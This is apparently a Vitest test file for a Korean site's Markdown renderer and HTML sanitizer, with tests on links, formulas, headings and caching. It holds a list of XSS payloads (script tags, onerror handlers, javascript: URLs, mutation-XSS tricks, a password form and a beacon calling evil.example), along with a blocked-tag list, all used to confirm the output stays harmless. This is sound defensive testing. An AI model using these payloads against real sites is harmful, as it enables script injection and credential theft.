// @vitest-environment jsdom
import fc from 'fast-check';
import { afterAll, beforeAll, beforeEach, describe, expect, it, test, vi } from 'vitest';
import { needsPurifier, renderMarkdown as renderWith } from './render-markdown.ts';
import { sanitize } from './sanitize.ts';

const renderMarkdown = (text: string, headingLevel: number) => renderWith(text, headingLevel, sanitize);

const forbidden =
  'script, style, iframe, object, embed, svg, math, form, input, button, textarea, select, link, meta, base, template, video, audio, source, frameset, dialog, details';

function html(fragment: DocumentFragment): string {
  const place = document.createElement('div');
  place.append(fragment);
  return place.innerHTML;
}

function expectHarmless(markup: string) {
  const place = document.createElement('div');
  place.innerHTML = markup;
  expect(place.querySelector(forbidden)).toBeNull();
  for (const element of place.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^style$|^id$|^name$|^srcdoc$|^formaction$|^srcset$|^xlink/i);
      if (name === 'href' || name === 'src') expect(value).not.toMatch(/^\s*(javascript|data|vbscript|blob|file):/i);
    }
    if (element instanceof HTMLImageElement) expect(new URL(element.src).origin).toBe(location.origin);
  }
}

const hostile = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/track.gif">',
  '![추적](https://evil.example/track.gif)',
  '![추적](//evil.example/track.gif)',
  '![그림](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '[눌러 보세요](javascript:alert(1))',
  '[눌러 보세요](JaVaScRiPt:alert(1))',
  '[눌러 보세요](java&#115;cript:alert(1))',
  '[눌러 보세요](java\tscript:alert(1))',
  '[눌러 보세요](&#x6A;avascript:alert(1))',
  '[눌러 보세요](vbscript:msgbox(1))',
  '[눌러 보세요](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<a href="javascript:alert(1)">눌러 보세요</a>',
  '<a href=" &#14; javascript:alert(1)">눌러 보세요</a>',
  '<svg onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<style>body{background:url(https://evil.example)}</style>',
  '<p style="position:fixed;inset:0;background:url(//evil.example)">덮기</p>',
  '<form action="https://evil.example"><input name=password><button>로그인</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<div id="root" name="body">가로채기</div>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<b onmouseover=alert(1)>올려 보세요</b>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<u title="`<img src=x onerror=alert(1)>`">',
  '```"><img/src/onerror=alert(1)>\ncode\n```',
  '`<img src=x onerror=alert(1)>`',
  '$\\href{javascript:alert(1)}{x}$',
  '$</span><img src=x onerror=alert(1)>$',
  '[a]: javascript:alert(1)\n\n[a]',
  '<javascript:alert(1)>',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
];

describe('what a stranger writes', () => {
  it.each(hostile)('does nothing as Markdown: %s', (text) => {
    expectHarmless(html(renderMarkdown(text, 3)));
  });

  it.each(hostile)('does nothing as Markdown before the purifier is here: %s', (text) => {
    const markup = html(renderWith(text, 3));
    expectHarmless(markup);
    expect(markup).not.toMatch(/<(?:a|img)\b/);
  });

  it.each(hostile)('does nothing as HTML either: %s', (text) => {
    expectHarmless(html(sanitize(text)));
  });

  it('keeps words about HTML as they were typed', () => {
    const fragment = renderMarkdown('제목은 <h1> 태그로, 스크립트는 <script>로 씁니다.', 3);
    expect(fragment.textContent?.trim()).toBe('제목은 <h1> 태그로, 스크립트는 <script>로 씁니다.');
  });
});

test('what needs no purifier is nothing else after it, of whatever a text is made', () => {
  const signs = [
    '**',
    '*',
    '_',
    '`',
    '$',
    '$$',
    '\n',
    '\n\n',
    '- ',
    '1. ',
    '> ',
    '# ',
    '|',
    '---',
    '~~',
    '\\',
    '&',
    '&lt;',
  ];
  const words = [
    '<',
    '>',
    '"',
    "'",
    '<br>',
    '</p>',
    '<b',
    'onclick=x',
    '[',
    '](',
    ')',
    '![',
    'http://x',
    'a',
    ' ',
    '가',
    '    ',
  ];
  const text = fc.array(fc.constantFrom(...signs, ...words, ...hostile, '```js\n', '\n```\n'), { maxLength: 14 });
  let pure = 0;
  fc.assert(
    fc.property(text, (parts) => {
      const written = parts.join('');
      const markup = html(renderWith(written, 3));
      expectHarmless(markup);
      if (needsPurifier(written, 3)) return;
      pure += 1;
      const frames = / tabindex="0"|<div class="markdown-table"[^>]*>(?=<table>)|(?<=<\/table>)<\/div>/g;
      expect(html(sanitize(markup.replaceAll(frames, '')))).toBe(markup.replaceAll(frames, ''));
    }),
    { numRuns: 2000 },
  );
  expect(pure).toBeGreaterThan(200);
});

describe('links and pictures', () => {
  const only = (text: string, selector: string) => renderMarkdown(text, 3).querySelector(selector);

  it('a link to elsewhere opens apart and tells nothing of us', () => {
    const link = only('[문서](https://example.com/a?b=1)', 'a');
    expect(link?.getAttribute('href')).toBe('https://example.com/a?b=1');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
    expect(link?.getAttribute('target')).toBe('_blank');
  });

  it.each(['/quiz/3', '#top', '?page=2', 'notes.html', './notes.html'])('a link within the site stays: %s', (href) => {
    const link = only(`[여기](${href})`, 'a');
    expect(link?.getAttribute('href')).toBe(href);
    expect(link?.hasAttribute('target')).toBe(false);
  });

  it('a mail address can be written to', () => {
    expect(only('<club@example.com>', 'a')?.getAttribute('href')).toBe('mailto:club@example.com');
  });

  it('a picture of this site is shown with its description', () => {
    const picture = only('![실행 계획](/assets/files/plan.png)', 'img');
    expect(picture?.getAttribute('src')).toBe('/assets/files/plan.png');
    expect(picture?.getAttribute('alt')).toBe('실행 계획');
  });

  it('of a picture from elsewhere the description remains', () => {
    expect(renderMarkdown('![실행 계획](https://example.com/plan.png)', 3).textContent?.trim()).toBe('실행 계획');
  });
});

describe('Korean text', () => {
  const markup = (text: string) => html(renderMarkdown(text, 3)).trim();

  it.each([
    ['**선택도(selectivity)**가 낮다', '<p><strong>선택도(selectivity)</strong>가 낮다</p>'],
    ['한**"글"**은', '<p>한<strong>"글"</strong>은</p>'],
    ['**`a * b` 곱**', '<p><strong><code>a * b</code> 곱</strong></p>'],
    ['** 아님 **', '<p>** 아님 **</p>'],
    ['10~20명, 30~40명', '<p>10~20명, 30~40명</p>'],
    ['~~지움~~', '<p><del>지움</del></p>'],
    ['첫 줄\n둘째 줄', '<p>첫 줄<br>둘째 줄</p>'],
    ['H<sub>2</sub>O', '<p>H<sub>2</sub>O</p>'],
  ])('%j is %j', (text, expected) => {
    expect(markup(text)).toBe(expected);
  });
});

describe('formulas', () => {
  const formulas = (text: string) =>
    [...renderMarkdown(text, 3).querySelectorAll<HTMLElement>('[data-math]')].map((element) => [
      element.dataset['math'],
      element.textContent,
    ]);

  it.each([
    ['비용은 $O(\\log n)$이다', [['inline', 'O(\\log n)']]],
    ['$$\\sum_{i=1}^n i$$', [['display', '\\sum_{i=1}^n i']]],
    ['$$\na < b\n$$\n다음', [['display', 'a < b']]],
    ['표 $5와 $10', []],
    ['값은 $5, $6이다', []],
    ['`$a$`', []],
    ['\\$a$', []],
    [
      '$a_1$과 $b_1$',
      [
        ['inline', 'a_1'],
        ['inline', 'b_1'],
      ],
    ],
  ])('in %j', (text, expected) => {
    expect(formulas(text)).toEqual(expected);
  });
});

describe('structure', () => {
  it('headings stand under those of the page and never deeper than the sixth level', () => {
    const fragment = renderMarkdown('# 하나\n\n## 둘\n\n##### 다섯', 3);
    expect([...fragment.querySelectorAll('h1,h2,h3,h4,h5,h6')].map(({ tagName }) => tagName)).toEqual([
      'H3',
      'H4',
      'H6',
    ]);
  });

  it('code keeps its language for colouring', () => {
    expect(renderMarkdown('```sql\nselect 1;\n```', 3).querySelector('code')?.dataset['language']).toBe('sql');
  });

  it('a task says whether it is done', () => {
    const items = [...renderMarkdown('- [x] 읽기\n- [ ] 쓰기', 3).querySelectorAll('li')];
    expect(items.map(({ textContent }) => textContent?.trim())).toEqual(['☑ 읽기', '☐ 쓰기']);
  });
});

describe('a text that is read again', () => {
  let read: typeof renderWith;
  let purify: typeof sanitize;
  // Other files of the worker may have loaded both.
  beforeAll(async () => {
    vi.resetModules();
    vi.doMock('./sanitize.ts', { spy: true });
    ({ renderMarkdown: read } = await import('./render-markdown.ts'));
    ({ sanitize: purify } = await import('./sanitize.ts'));
  });
  beforeEach(() => vi.mocked(purify).mockClear());
  afterAll(() => {
    vi.doUnmock('./sanitize.ts');
    vi.resetModules();
  });

  it('comes as it was, whatever was done to it where it stood', () => {
    const text = '값은 `a`와 $x$이다.';
    const first = read(text, 3);
    const before = html(first.cloneNode(true) as DocumentFragment);
    for (const element of first.querySelectorAll('*')) element.innerHTML = '<mark>바뀜</mark>';
    expect(html(read(text, 3))).toBe(before);
  });

  it('is not purified anew, and gets the headings of its place', () => {
    const text = '# [두 번](/) 읽는 글';
    read(text, 3, purify);
    read(text, 3, purify);
    expect(purify).toHaveBeenCalledTimes(1);
    expect(read(text, 4, purify).querySelector('h4')).not.toBeNull();
  });

  it('is kept as long as few others were read since', () => {
    read('[오래된 글](/)', 3, purify);
    for (let index = 0; index < 40; index++) read(`글 ${index}`, 3);
    vi.mocked(purify).mockClear();
    read('[오래된 글](/)', 3, purify);
    expect(purify).toHaveBeenCalledTimes(1);
  });
});
